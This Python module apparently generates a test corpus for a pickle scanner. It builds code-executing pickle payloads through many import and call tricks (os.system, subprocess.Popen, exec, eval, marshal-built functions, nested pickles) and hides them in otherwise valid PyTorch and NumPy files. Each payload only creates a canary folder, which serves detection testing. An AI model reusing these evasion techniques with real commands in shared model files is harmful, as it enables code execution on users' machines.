"""Pickles that run code, made from a grammar: how a name is imported, how it is called, in what file, and where in it.

The code of every one creates a folder or a file below ``CANARY`` and does nothing else. Each file holds a good tensor, too.
"""

from __future__ import annotations

import io
import marshal
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path

import numpy as np
import torch

CANARY = "t2g-canary"
OTHER = "t2g_other"  # a package that is neither Python's nor PyTorch's, with code of its own
OTHER_SOURCE = """
import os


class Thing:
    def __setstate__(self, state):
        os.mkdir(state)


class Bag:
    def append(self, item):
        os.mkdir(item)


def act(path):
    os.mkdir(path)
"""
Place = tuple[str, str, Callable[[str, bytes], None], str]  # label, suffix, how it is written, how it is loaded


@dataclass(frozen=True)
class Evasion:
    """A file: how it is loaded (``pickle``, ``torch`` or ``numpy``), and a name that ``check`` must say."""

    name: str
    file: str
    loaded: str
    names: str


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def old(value: str) -> bytes:
    return b"S'" + value.encode() + b"'\n"


def raw_bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stacked(module: str, attribute: str) -> bytes:
    return short(module) + short(attribute) + b"\x93"


def both(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def many(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def numbers(raw: bytes) -> bytes:
    return many(*(b"K" + bytes([each]) for each in raw))


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + both(*arguments) + b"R"


def attributes(made: bytes, key: str, value: bytes) -> bytes:
    return made + b"}" + text(key) + value + b"sb"


_OS = call(name("importlib", "import_module"), text("os"))
_PARTIAL, _BUILTINS = name("functools", "partial"), "builtins"
# What pushes a function that makes a folder, and a name that must be said.
IMPORTERS: dict[str, tuple[bytes, str]] = {
    "global": (name("os", "mkdir"), "os.mkdir"),
    "posix": (name("posix", "mkdir"), "posix.mkdir"),
    "stack": (stacked("os", "mkdir"), "os.mkdir"),
    "strings": (old("os") + old("mkdir") + b"\x93", "os.mkdir"),
    "dotted": (stacked("torch.nn.parallel.distributed", "os.mkdir"), "os.mkdir"),
    "python": (stacked("pathlib", "os.mkdir"), "os.mkdir"),
    "other": (stacked(OTHER, "os.mkdir"), "os.mkdir"),
    "memo": (name("os", "mkdir") + b"r\x00\x01\x00\x000j\x00\x01\x00\x00", "os.mkdir"),
    "getattr": (call(name(_BUILTINS, "getattr"), _OS, text("mkdir")), "builtins.getattr"),
    "python 2": (call(name("__builtin__", "getattr"), _OS, text("mkdir")), "__builtin__.getattr"),
    "attrgetter": (call(call(name("operator", "attrgetter"), text("mkdir")), _OS), "operator.attrgetter"),
    "partial": (call(_PARTIAL, name("os", "mkdir")), "functools.partial"),
    "resolved": (call(name("pkgutil", "resolve_name"), text("os:mkdir")), "pkgutil.resolve_name"),
    "of another": (name(OTHER, "act"), f"{OTHER}.act"),
}

_SPACE = call(name("types", "SimpleNamespace"))
_LIST, _ORDERED = name(_BUILTINS, "list"), call(name("collections", "OrderedDict"))
_CONSUMERS = {each: name(_BUILTINS, each) for each in ("list", "tuple", "set", "frozenset")}
_CONSUMERS |= {each: name("collections", each) for each in ("deque", "Counter")}
_RANDOM, _JIT = "numpy.random._pickle", "torch.jit._pickle"
_FROM_TYPE = name("torch._tensor", "_rebuild_from_type_v2")
_STARMAP, _MAP, _FILTER = name("itertools", "starmap"), name(_BUILTINS, "map"), name(_BUILTINS, "filter")
# What calls the function *f* with the path *p*.
CALLS: dict[str, Callable[[bytes, bytes], bytes]] = {
    "reduce": lambda f, p: call(f, p),
    "one": lambda f, p: f + p + b"\x85R",
    "obj": lambda f, p: b"(" + f + p + b"o",
    **{
        f"{consumer} of map": lambda f, p, kind=kind: call(kind, call(_MAP, f, many(p)))
        for consumer, kind in _CONSUMERS.items()
    },
    "starmap": lambda f, p: call(_LIST, _STARMAP + both(f, many(p + b"\x85")) + b"\x81"),
    "filter": lambda f, p: call(_LIST, call(_FILTER, f, many(p))),
    "functools.reduce": lambda f, p: call(name("functools", "reduce"), f, many(p, b"M\xff\x01")),
    "setstate": lambda f, p: attributes(_SPACE, "__setstate__", f) + p + b"b",
    "setstate of a dict": lambda f, p: attributes(_ORDERED, "__setstate__", f) + p + b"b",
    "append": lambda f, p: attributes(_SPACE, "append", f) + p + b"a",
    "appends": lambda f, p: attributes(_SPACE, "append", f) + b"(" + p + b"e",
    "add": lambda f, p: attributes(_SPACE, "add", f) + b"(" + p + b"\x90",
    "random state": lambda f, p: call(name(_RANDOM, "__randomstate_ctor"), p, f),
    "generator": lambda f, p: call(name(_RANDOM, "__generator_ctor"), p, f),
    "from type": lambda f, p: call(_FROM_TYPE, f, name("torch", "Tensor"), both(p), b"}"),
    "tag": lambda f, p: call(call(name(_JIT, "restore_type_tag"), f, text("")), p),
    "list tag": lambda f, p: call(call(name(_JIT, "build_intlist"), f), p),
    "partial call": lambda f, p: call(call(_PARTIAL, f, p)),
    "tree": lambda f, p: call(name("torch.utils._pytree", "tree_map"), f, p),
    "vectorised": lambda f, p: call(call(name("numpy", "frompyfunc"), f, b"K\x01", b"K\x01"), p),
}


def whole(path: str) -> Iterator[tuple[str, bytes, str]]:
    """Payloads that are a call of one certain thing: label, opcodes, a name that must be said."""
    p = text(path)
    python = f"import os; os.mkdir({path!r})"
    gadget = b"\x80\x04" + call(name("os", "mkdir"), p) + b"."
    yield "inst", b"(" + p + b"ios\nmkdir\n", "os.mkdir"
    yield "inst without arguments", b"(itempfile\nmkdtemp\n", "tempfile.mkdtemp"
    yield "obj without arguments", b"(" + name("tempfile", "mkdtemp") + b"o", "tempfile.mkdtemp"
    yield "reduce without arguments", name("tempfile", "mkstemp") + b")R", "tempfile.mkstemp"
    yield from _memmaps(p)
    process = (name("subprocess", "Popen"), name("subprocess", "Popen"), many(text("mkdir"), p))
    yield "reconstructor", call(name("copyreg", "_reconstructor"), *process), "subprocess.Popen"
    yield "process", call(name("subprocess", "Popen"), many(text("mkdir"), p)), "subprocess.Popen"
    yield "shell", call(name("os", "system"), text(f"mkdir {path}")), "os.system"
    yield "exec", call(name(_BUILTINS, "exec"), text(python)), "builtins.exec"
    yield "eval", call(name(_BUILTINS, "eval"), text(f"__import__('os').mkdir({path!r})")), "builtins.eval"
    code = call(name("marshal", "loads"), raw_bytes(marshal.dumps(compile(python, "x", "exec"))))
    yield "function", call(call(name("types", "FunctionType"), code, b"}")), "types.FunctionType"
    yield "open", call(name("io", "open"), p, text("w")), "io.open"
    yield "file", call(name("_io", "FileIO"), p, text("w")), "_io.FileIO"
    yield "log", call(name("logging", "FileHandler"), p), "logging.FileHandler"
    yield "zip", call(name("zipfile", "ZipFile"), p, text("w")), "zipfile.ZipFile"
    yield "gzip", call(name("gzip", "open"), p, text("w")), "gzip.open"
    yield "numpy", call(name("numpy", "save"), p, b"K\x01"), "numpy.save"
    yield "torch", call(name("torch", "save"), b"K\x01", p), "torch.save"
    yield "torch's file", call(name("torch", "from_file"), p, b"\x88", b"K\x04"), "torch.from_file"
    at = call(name("pathlib", "Path"), p)
    yield "method", call(stacked("pathlib", "Path.touch"), at), "pathlib.Path.touch"
    yield "chain", call(call(name("operator", "methodcaller"), text("touch")), at), "operator.methodcaller"
    yield from _inner(gadget)
    yield "class of another", name(OTHER, "Thing") + b")\x81" + p + b"b", f"{OTHER}.Thing"
    yield "list of another", name(OTHER, "Bag") + b")\x81" + p + b"a", f"{OTHER}.Bag"
    plain = call(name("copyreg", "_reconstructor"), name(OTHER, "Thing"), name(_BUILTINS, "object"), b"N")
    yield "object of another", plain + p + b"b", f"{OTHER}.Thing"
    harmless = (call(name("datetime", "timedelta"), b"K\x01") + b"0") * 3000
    yield "behind thousands", harmless + call(name("os", "mkdir"), p), "os.mkdir"
    layers = (name("torch.nn.modules.linear", "Identity") + b")\x81}b0") * 500
    yield "behind layers", layers + call(name("os", "mkdir"), p), "os.mkdir"


def _memmaps(p: bytes) -> Iterator[tuple[str, bytes, str]]:
    memmap = name("numpy", "memmap")
    given = (p, text("u1"), text("w+"), b"K\x00", b"K\x01\x85")
    keywords = b"}" + text("mode") + text("w+") + b"s" + text("shape") + b"K\x01\x85" + b"s"
    yield "memmap", memmap + both(*given) + b"\x81", "numpy.memmap"
    yield "memmap called", call(memmap, *given), "numpy.memmap"
    yield "memmap with keywords", memmap + both(p) + keywords + b"\x92", "numpy.memmap"
    yield "memmap by copyreg", call(name("copyreg", "__newobj__"), memmap, *given), "numpy.memmap"
    yield "memmap by copyreg, keywords", call(name("copyreg", "__newobj_ex__"), memmap, both(p), keywords), "numpy.memmap"


def _inner(gadget: bytes) -> Iterator[tuple[str, bytes, str]]:
    """Pickles in byte strings, and what loads them."""
    loads, stored = name("pickle", "loads"), name("torch.storage", "_load_from_bytes")
    yield "pickle", call(loads, raw_bytes(gadget)), "os.mkdir"
    twice = b"\x80\x04" + call(name("_pickle", "loads"), raw_bytes(gadget)) + b"."
    yield "pickle in a pickle", call(loads, raw_bytes(twice)), "os.mkdir"
    yield "pickle of numbers", call(loads, call(name(_BUILTINS, "bytes"), numbers(gadget))), "os.mkdir"
    latin = call(name("_codecs", "encode"), text(gadget.decode("latin-1")), text("latin1"))
    yield "pickle as text", call(loads, latin), "os.mkdir"
    legacy = _legacy(gadget)
    yield "storage", call(stored, raw_bytes(legacy)), "os.mkdir"
    yield "storage of a zip", call(stored, raw_bytes(_zip(gadget))), "_load_from_bytes"
    array = name("array", "array") + both(text("B"), numbers(legacy)) + b"\x81"
    yield "storage of an array", call(stored, array), "os.mkdir"
    kept = attributes(_SPACE, "__setstate__", stored) + raw_bytes(legacy) + b"b"
    yield "a loader as an attribute", kept, "_load_from_bytes"


def _legacy(gadget: bytes) -> bytes:
    buffer = io.BytesIO()
    torch.save(torch.ones(2), buffer, _use_new_zipfile_serialization=False)
    pieces = pickles(buffer.getvalue())
    return before(pieces[0], gadget[2:-1]) + b"".join(pieces[1:])


def _zip(pickled: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", b"3\n")
    return buffer.getvalue()


def pickles(raw: bytes) -> list[bytes]:
    """The five pickles of a legacy stream, and what is behind them."""
    stream, pieces = io.BytesIO(raw), []
    for _ in range(5):
        start = stream.tell()
        for _ in pickletools.genops(stream):
            pass
        pieces.append(raw[start : stream.tell()])
    return [*pieces, raw[stream.tell() :]]


# Where a payload stands in a pickle, whose value is a mapping but for ``before``.
def value(pickled: bytes, payload: bytes) -> bytes:
    return b"\x80\x04" + pickled[2:-1] + text("x") + payload + b"s."


def argument(pickled: bytes, payload: bytes) -> bytes:
    return b"\x80\x04" + pickled[2:-1] + text("x") + call(_LIST, b"]" + payload + b"a") + b"s."


def nested(pickled: bytes, payload: bytes) -> bytes:
    return b"\x80\x04" + pickled[2:-1] + text("x") + b"}" + text("y") + b"]" + payload + b"as" + b"s."


def before(pickled: bytes, payload: bytes) -> bytes:
    """Made and thrown away: fit for a pickle of any value."""
    return b"\x80\x04" + payload + b"0" + pickled[2:]


def behind(pickled: bytes, payload: bytes) -> bytes:
    return pickled + b"\x80\x04" + payload + b"."


INSIDE = {"value": value, "argument": argument, "nested": nested, "before": before}


class Files:
    """Writes a payload into files of each kind."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        good = {"w": torch.arange(6.0).reshape(2, 3)}
        zipped, legacy = io.BytesIO(), io.BytesIO()
        torch.save(good, zipped)
        torch.save(good, legacy, _use_new_zipfile_serialization=False)
        self.zipped, self.legacy = zipped.getvalue(), pickles(legacy.getvalue())
        self.plain = pickle.dumps({"w": np.arange(6.0)}, 2)

    def places(self) -> Iterator[Place]:
        """Each place in each kind of file."""
        for label, put in INSIDE.items():
            yield f"pickle, {label}", ".pkl", lambda file, p, put=put: self.write(file, put(self.plain, p)), "pickle"
            yield f"zip, {label}", ".pt", lambda file, p, put=put: self.write_zip(file, put, p), "torch"
            yield f"legacy, {label}", ".pth", lambda file, p, put=put: self.write_legacy(file, 3, put, p), "torch"
        yield "pickle, behind STOP", ".pkl", lambda file, p: self.write(file, behind(self.plain, p)), "pickle"
        for index, which in ((0, "magic"), (1, "protocol"), (2, "system"), (4, "keys")):
            yield f"legacy, {which}", ".pth", lambda file, p, i=index: self.write_legacy(file, i, before, p), "torch"
        for member in ("pickle", "storages", "tensors"):
            yield f"tar, {member}", ".tar", lambda file, p, m=member: self.write_tar(file, m, p), "torch"
        yield "npy", ".npy", lambda file, p: self.write(file, self.npy(p)), "numpy"
        yield "npz", ".npz", self.write_npz, "numpy"

    def write(self, file: str, raw: bytes) -> None:
        (self.folder / file).write_bytes(raw)

    def write_zip(self, file: str, put: Callable[[bytes, bytes], bytes], payload: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(self.zipped)) as read, zipfile.ZipFile(self.folder / file, "w") as archive:
            for entry in read.infolist():
                raw = read.read(entry)
                archive.writestr(entry.filename, put(raw, payload) if entry.filename.endswith("data.pkl") else raw)

    def write_legacy(self, file: str, which: int, put: Callable[[bytes, bytes], bytes], payload: bytes) -> None:
        self.write(file, b"".join(put(each, payload) if at == which else each for at, each in enumerate(self.legacy)))

    def write_tar(self, file: str, which: str, payload: bytes) -> None:
        one, stored, no_views = (pickle.dumps(each, 2) for each in (1, ("s", "cpu", torch.FloatStorage), []))
        described = pickle.dumps(("t", "s", torch.FloatTensor), 2)
        first = {"storages": one, "tensors": one, "pickle": b"\x80\x04}" + text("w") + text("t") + b"Qs."}
        first[which] = before(first[which], payload)
        weights = np.arange(6, dtype="<f4").tobytes()
        rest = {
            "storages": stored + struct.pack("<q", 6) + weights + no_views,
            "tensors": described + struct.pack("<ii5q", 2, 0, 2, 3, 3, 1, 0),
            "pickle": b"",
        }
        with tarfile.open(self.folder / file, "w", format=tarfile.USTAR_FORMAT) as archive:
            for member in ("storages", "tensors", "pickle"):
                raw = first[member] + rest[member]
                entry = tarfile.TarInfo(member)
                entry.size = len(raw)
                archive.addfile(entry, io.BytesIO(raw))

    def npy(self, payload: bytes) -> bytes:
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, np.array([None], dtype=object), allow_pickle=True)
        head, _, pickled = buffer.getvalue().partition(b"\n")
        return head + b"\n" + before(pickled, payload)

    def write_npz(self, file: str, payload: bytes, member: str = "bad.npy") -> None:
        good = io.BytesIO()
        np.save(good, np.arange(3.0))
        with zipfile.ZipFile(self.folder / file, "w") as archive:
            archive.writestr("good.npy", good.getvalue())
            archive.writestr(member, self.npy(payload))


def write(folder: Path) -> list[Evasion]:
    """Every importer with every call and every payload of its own, each in the next place of a file; then all places."""
    made: list[Evasion] = []
    places = list(Files(folder).places())
    turn = cycle(places)

    def add(label: str, payload: Callable[[str], bytes], names: str, place: Place) -> None:
        where, suffix, writer, loaded = place
        file = f"{len(made):04}{suffix}"
        writer(file, payload(f"{CANARY}/{len(made):04}"))
        made.append(Evasion(f"{label}; {where}", file, loaded, names))

    for importer, (function, names) in IMPORTERS.items():
        for how, apply in CALLS.items():
            add(f"{importer}, {how}", lambda path, f=function, a=apply: a(f, text(path)), names, next(turn))
    for label, _, names in whole("x"):
        for _ in range(2):
            add(label, lambda path, label=label: next(p for each, p, _ in whole(path) if each == label), names, next(turn))
    for place in places:
        add("global, reduce", lambda path: call(name("os", "mkdir"), text(path)), "os.mkdir", place)
    return made
